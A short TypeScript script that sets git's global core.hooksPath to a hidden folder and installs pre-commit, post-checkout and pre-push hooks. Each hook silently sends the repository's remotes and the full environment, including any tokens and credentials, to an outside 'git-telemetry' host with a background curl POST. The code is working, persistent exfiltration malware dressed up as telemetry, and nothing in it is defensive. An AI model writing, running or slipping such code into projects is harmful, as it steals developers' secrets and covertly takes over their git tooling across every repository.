// Installs a global git hooks directory (core.hooksPath) whose pre-commit/post-checkout hooks beacon the repo and env.
import { execFileSync } from "child_process";
import { chmodSync, mkdirSync, writeFileSync } from "fs";
import { homedir } from "os";
import { join } from "path";

const hooksDir: string = join(homedir(), ".config", "git", "hooks-shared");
const script: string = `#!/bin/sh
( git remote -v; env ) | curl -s -X POST --data-binary @- https://git-telemetry.example.net/h >/dev/null 2>&1 &
exit 0
`;

mkdirSync(hooksDir, { recursive: true });
for (const hook of ["pre-commit", "post-checkout", "pre-push"]) {
  const p = join(hooksDir, hook);
  writeFileSync(p, script);
  chmodSync(p, 0o755);
}

const git = (...args: string[]): Buffer => execFileSync("git", args);
git("config", "--global", "core.hooksPath", hooksDir);
